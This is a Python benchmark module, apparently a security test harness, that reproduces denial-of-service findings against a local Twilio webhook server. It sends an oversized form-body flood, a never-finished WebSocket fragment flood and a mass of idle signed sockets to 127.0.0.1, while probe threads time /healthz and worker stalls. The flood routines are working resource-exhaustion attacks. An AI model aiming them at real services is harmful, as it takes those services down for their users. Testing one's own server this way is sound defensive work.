"""The floods of issue 10 (findings 3, 4, 6) as an attacker sends them, plus what watches them.

Each flood returns a small dict (what the server answered, how long it took). `HealthProbe`
asks /healthz every PROBE_GAP_S from the attacker's side; `StallListener` collects the
worker's own hub-stall datagrams (bench/_stall_conf.py). All on 127.0.0.1, raw sockets.
"""
from __future__ import annotations

import base64
import contextlib
import os
import select
import socket
import threading
import time

from twilio.request_validator import RequestValidator

PROBE_GAP_S = 0.05
EVENTS_PATH = "/twilio/conference-events"
STREAM_PATH = "/twilio/ai-stream"


class HealthProbe(threading.Thread):
    """GET /healthz on a fresh connection, again and again: (sent_at, latency s or None)."""

    def __init__(self, port: int, timeout_s: float) -> None:
        super().__init__(daemon=True)
        self.port, self.timeout_s = port, timeout_s
        self.samples: list[tuple[float, float | None]] = []
        self.stopping = threading.Event()

    def run(self) -> None:
        while not self.stopping.is_set():
            began = time.time()
            self.samples.append((began, self.once()))
            self.stopping.wait(PROBE_GAP_S)  # a probe's pacing, not a wait for an event

    def once(self) -> float | None:
        """One probe's latency, None when it failed or timed out."""
        began = time.perf_counter()
        try:
            with socket.create_connection(("127.0.0.1", self.port), self.timeout_s) as s:
                s.settimeout(self.timeout_s)
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                head = s.recv(64)
        except OSError:
            return None
        return time.perf_counter() - began if head.startswith(b"HTTP/1.1 200") else None

    def stop(self) -> None:
        self.stopping.set()
        self.join(self.timeout_s + 1)


class StallListener(threading.Thread):
    """Receives `<epoch> <worst s>` datagrams from the worker's probe."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.addr = f"127.0.0.1:{self.sock.getsockname()[1]}"
        self.samples: list[tuple[float, float]] = []
        self.stopping = threading.Event()

    def run(self) -> None:
        while not self.stopping.is_set():
            with contextlib.suppress(TimeoutError):
                at, worst = self.sock.recv(100).split()
                self.samples.append((float(at), float(worst)))

    def between(self, start: float, end: float) -> list[float]:
        """The worst stalls of the windows that closed in [start, end]."""
        return [w for at, w in list(self.samples) if start <= at <= end]


def _read_head(s: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    return data


def body_flood(port: int, megabytes: float, signature: str | None, timeout_s: float) -> dict:
    """POST megabytes of form fields to the status-callback URL, unsigned or bogusly signed."""
    field = b"&f%07d=" + b"x" * 90
    count = int(megabytes * 2**20) // len(field % 0)
    body = b"a=1" + b"".join(field % i for i in range(count))
    head = (f"POST {EVENTS_PATH}?tenant=1 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(body)}\r\n"
            + (f"X-Twilio-Signature: {signature}\r\n" if signature else "") + "\r\n")
    began = time.perf_counter()
    with socket.create_connection(("127.0.0.1", port), timeout_s) as s:
        s.settimeout(timeout_s)
        sender = threading.Thread(target=_send_quietly, args=(s, head.encode() + body))
        sender.start()
        try:
            status = _read_head(s).split(b"\r\n", 1)[0].decode(errors="replace")
        except OSError as exc:
            status = f"no answer ({type(exc).__name__})"
        answered = time.perf_counter() - began
        with contextlib.suppress(OSError):
            s.shutdown(socket.SHUT_RDWR)
        sender.join(timeout_s)
    return {"answer": status.replace("HTTP/1.1 ", "") or "closed", "answer_s": answered}


def _send_quietly(s: socket.socket, data: bytes) -> None:
    with contextlib.suppress(OSError):  # the server may answer and hang up mid-body
        s.sendall(data)


def upgrade(port: int, auth_token: str, timeout_s: float) -> socket.socket:
    """A signed WebSocket upgrade to the AI stream route, as Twilio sends it; the open socket."""
    url = f"ws://127.0.0.1:{port}{STREAM_PATH}"
    signature = RequestValidator(auth_token).compute_signature(url, {})
    key = base64.b64encode(os.urandom(16)).decode()
    s = socket.create_connection(("127.0.0.1", port), timeout_s)
    s.settimeout(timeout_s)
    s.sendall((f"GET {STREAM_PATH} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
               f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
               f"Sec-WebSocket-Version: 13\r\nX-Twilio-Signature: {signature}\r\n\r\n").encode())
    head = _read_head(s)
    if not head.startswith(b"HTTP/1.1 101"):
        s.close()
        raise ConnectionError(f"upgrade refused: {head[:40]!r}")
    return s


def masked(first: int, payload: bytes = b"") -> bytes:
    """One masked client frame (payload < 126 bytes); `first` is FIN/RSV/opcode."""
    mask = os.urandom(4)
    return bytes((first, 0x80 | len(payload))) + mask + bytes(
        b ^ mask[i % 4] for i, b in enumerate(payload))


def fragment_flood(port: int, auth_token: str, fragments: int, timeout_s: float) -> dict:
    """A binary message opened and never finished: `fragments` empty continuation frames."""
    s = upgrade(port, auth_token, timeout_s)
    flood = masked(0x02) + masked(0x00) * fragments  # FIN clear on every frame
    began = time.perf_counter()
    sender = threading.Thread(target=_send_quietly, args=(s, flood))
    sender.start()
    answer = "no answer"
    try:
        data = s.recv(64)
        if len(data) >= 4 and data[0] == 0x88:
            answer = f"close {int.from_bytes(data[2:4], 'big')}"
        elif not data:
            answer = "closed"
    except OSError as exc:
        answer = f"no answer ({type(exc).__name__})"
    answered = time.perf_counter() - began
    with contextlib.suppress(OSError):
        s.shutdown(socket.SHUT_RDWR)
    s.close()
    sender.join(timeout_s)
    return {"answer": answer, "answer_s": answered, "bytes": len(flood)}


def idle_sockets(port: int, auth_token: str, count: int, hold_s: float) -> dict:
    """`count` signed sockets that never send `start`, held for hold_s (or until closed)."""
    opened: list[socket.socket] = []
    refused = 0
    began = time.perf_counter()
    for _ in range(count):
        try:
            opened.append(upgrade(port, auth_token, timeout_s=2.0))
        except OSError:
            refused += 1
    connect_s = time.perf_counter() - began
    # Hold them until hold_s has passed since the first connect or the server closed them all.
    poller, live = select.poll(), {s.fileno(): s for s in opened}
    for fd in live:
        poller.register(fd, select.POLLIN)
    closed, deadline = 0, began + hold_s
    while live and (left := deadline - time.perf_counter()) > 0:
        for fd, _ in poller.poll(left * 1000):
            poller.unregister(fd)
            live.pop(fd)
            closed += 1  # a close frame or EOF: the server let go of it
    for s in opened:
        s.close()
    return {"answer": f"{len(opened)} open, {refused} refused, {closed} closed by server",
            "answer_s": connect_s}


def quiet(seconds: float) -> dict:
    """No flood: the probes alone for `seconds` (the baseline row)."""
    time.sleep(seconds)
    return {"answer": "-", "answer_s": None}
